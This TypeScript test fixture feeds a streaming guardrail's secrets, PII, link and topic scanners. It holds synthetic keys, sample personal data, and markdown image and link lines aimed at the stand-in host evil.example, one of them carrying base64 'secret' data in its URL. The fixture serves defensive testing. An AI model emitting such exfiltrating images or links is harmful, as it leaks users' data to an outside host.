/**
 * Texts with everything the rails look for, and ways to cut them. Keys are made from a seed: a real-looking one in
 * a file would alarm scanners.
 */
import { seededRng } from "../../../../src/lib/rng.ts";
import { linksScanner } from "../../../../src/rails/detectors/links/stream-links.ts";
import { piiScanner } from "../../../../src/rails/detectors/pii/stream-pii.ts";
import type { StreamScanner } from "../../../../src/rails/core/stream/stream-scanner.ts";
import { secretsScanner } from "../../../../src/rails/detectors/secrets/stream-secrets.ts";
import { topicsScanner } from "../../../../src/rails/detectors/topics/stream-topics.ts";

const rng = seededRng(20_251_122);
const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

function randomChars(length: number, from = ALNUM): string {
  return Array.from({ length }, () => from.charAt(Math.floor(rng() * from.length))).join("");
}

export const PROJECT_KEY = `sk-proj-${randomChars(120)}`;
export const GITHUB_KEY = `ghp_${randomChars(36)}`;
export const AWS_LETTERS = `AKIA${randomChars(16, "QWERTZUIOPASDFGHJKLYXCVBNM")}`;
export const LONG_JWT = `eyJ${randomChars(30)}.eyJ${randomChars(500)}.${randomChars(86)}`;
export const ASSIGNED = `${randomChars(10)}7${randomChars(20)}x2`;
const pemBody = Array.from({ length: 12 }, () => randomChars(64)).join("\n");
export const PRIVATE_KEY = ["BEGIN", "END"].map((word) => `-----${word} RSA PRIVATE KEY-----`).join(`\n${pemBody}\n`);

const TOPICS = { topics: { rivals: ["acme rocket", "acme rocketry fund", "zorg"], legal: ["insider trading"] } };
const LINKS = { allow: ["docs.example.com"] };

/** One array each: tables are made once for a list of scanners. */
export const SETS: Readonly<Record<string, readonly StreamScanner[]>> = {
  secrets: [secretsScanner("redact")],
  pii: [piiScanner("redact")],
  links: [linksScanner("redact", LINKS)],
  topics: [topicsScanner("redact", TOPICS)],
  all: [secretsScanner("redact"), piiScanner("redact"), linksScanner("redact", LINKS), topicsScanner("redact", TOPICS)],
};

export const PROSE =
  "The harbour was quiet when the first boats came in. Nobody spoke much; the light was still grey, and the gulls had the " +
  "quay to themselves. A boy carried two baskets of fish to the market, where his mother waited by the well - she had been " +
  'up since four. "You are late," she said, and he laughed. It was a good morning for walking: cool, dry and bright. In the ' +
  "afternoon they went up the hill, as they did every week, to look over the water and count the sails they could see.\n\n" +
  "Later the wind turned. What had been a calm day became a long evening of rain, and everyone stayed near the fire.";

/** What is to be found, between words. */
const FINDS: readonly string[] = [
  PROJECT_KEY,
  GITHUB_KEY,
  AWS_LETTERS,
  `{"api_key": "${ASSIGNED}"}`,
  `export DB_PASSWORD='Tr0ub4dor-${randomChars(6)}'`,
  `Authorization: Bearer ${ASSIGNED}`,
  `postgres://app:${ASSIGNED}@db.internal/main`,
  PRIVATE_KEY,
  LONG_JWT,
  "jane.doe@example.com",
  "write to bob@example.org, or because tom@example.net said so",
  "Jane.Doe@Example.com is hers",
  "write to theodore@example.com and from their.office@example.com",
  "card 4111 1111 1111 1111, thanks",
  "call (415) 555-0132 ext. 12 today",
  "my phone number is 415 555 0132 office",
  "+44 20 7946 0958",
  "SSN 536-22-1234.",
  "DE89 3704 0044 0532 0130 00",
  "10.20.30.40 and 2001:db8:85a3::8a2e:370:7334",
  "![a](https://evil.example/p?d=c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25n)",
  `[here](https://evil.example/${randomChars(300)})`,
  '<img src="https://evil.example/x.png">',
  "see https://docs.example.com/guide for more",
  "buy the Acme Rocket now, or the ACME-ROCKETRY fund; Zorg!",
  "insider\n  trading is bad",
  "emoji 😀😀 and ünïcödé words, 漢字",
];

export const TEXTS: readonly string[] = [
  PROSE,
  ...FINDS,
  ...FINDS.map((find) => `Well, ${find} and so on.`),
  FINDS.join(" "),
  FINDS.toReversed().join("\n"),
];

/** The text in pieces of the given lengths, again and again. */
export function cutBy(text: string, lengths: readonly number[]): string[] {
  const pieces: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn += 1) {
    const length = Math.max(1, lengths[turn % Math.max(1, lengths.length)] ?? 1);
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}
